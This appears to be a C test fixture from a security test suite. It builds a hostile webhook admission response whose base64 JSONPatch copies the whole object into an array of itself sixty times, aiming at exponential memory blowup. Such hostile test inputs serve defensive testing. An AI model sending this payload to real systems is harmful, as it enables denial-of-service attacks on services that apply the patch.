// Tries to double the object sixty times by copying it into an array of itself.
#include "hostile.h"

ATTACK {
  say(HEAD "\"uid\":\"");
  say_uid();
  say("\",\"allowed\":true,\"patchType\":\"JSONPatch\",\"patch\":\"");
  say_base64("[{\"op\":\"add\",\"path\":\"/l\",\"value\":[]},  ");
  repeat("eyJvcCI6ImNvcHkiLCJmcm9tIjoiIiwicGF0aCI6Ii9sLy0ifSwg", 60);
  say_base64("{\"op\":\"copy\",\"from\":\"\",\"path\":\"/l/-\"}]");
  say("\"" TAIL);
}
